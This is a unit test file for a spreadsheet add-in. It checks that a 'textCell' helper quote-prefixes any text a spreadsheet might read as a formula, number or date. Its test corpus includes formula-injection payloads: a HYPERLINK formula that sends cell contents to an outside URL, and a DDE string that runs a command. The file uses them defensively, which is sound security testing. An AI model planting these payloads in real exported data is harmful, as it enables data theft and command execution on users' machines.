import { describe, expect, it } from 'vitest';
import { textCell } from '../../../../addin/workbook/text-cell.ts';

/** reliability §1.5, corpus: texts some spreadsheet takes for something else. */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  "' =1",
  "'=1",
  '＝1',
  '＋1',
  '－1',
  '＠A1',
  '\ufeff=1',
  '\u200b=1',
  '\u00a0=1',
  '\u3000=1',
  '=HYPERLINK("http://x/?"&A1,"点我")',
  "=cmd|'/c calc'!A1",
  '-',
  '--',
  '00123',
  '110101199003078888',
  '1-2',
  '3月5日',
  '2026/2/30',
  '1E5',
  '50%',
  '１２',
  'TRUE',
  '#N/A',
  '¥12',
];

describe('a text on its way into a cell', () => {
  it.each(DANGEROUS)('is quoted when it could be read as something else: %j', (text) => {
    expect(textCell(text)).toBe(`'${text}`);
  });

  it.each(['已开展动员部署', '第二季度完成 3 次', '—1', '𠮷', 'a\u0301', '（一）全面排查'])(
    'stays as it is when nothing can mistake it: %s',
    (text) => {
      expect(textCell(text)).toBe(text);
    },
  );
});
